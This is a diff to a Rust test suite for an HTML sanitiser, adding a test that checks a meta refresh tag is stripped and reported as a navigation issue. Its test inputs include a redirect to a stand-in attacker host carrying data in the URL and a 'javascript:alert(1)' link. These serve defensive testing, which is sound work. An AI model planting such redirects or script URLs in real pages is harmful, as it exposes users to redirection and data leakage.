@@ -61,6 +61,15 @@ fn scripts_and_event_handlers_are_removed_and_reported_where_they_were() {
 }
 
 #[test]
+fn a_meta_refresh_is_removed_and_reported_as_navigation() {
+    let html = "<p>hi</p>\n<META HTTP-EQUIV=\"refresh\" content=\"0;url=https://evil.example/?d=x\">";
+    let (out, issues) = sanitise(html, None);
+    assert!(!out.to_ascii_lowercase().contains("meta") && !out.contains("evil"), "{out}");
+    let got: Vec<(&str, u32, u32)> = issues.iter().map(|i| (i.rule.as_str(), i.line, i.column)).collect();
+    assert_eq!(got, vec![(rules::NO_NAVIGATION, 2, 1)], "{issues:#?}");
+}
+
+#[test]
 fn script_urls_remote_resources_and_style_urls_are_removed() {
     let cases: &[(&str, u32, &str)] = &[
         ("<a href=\"javascript:alert(1)\">x</a>", 4, "javascript"),
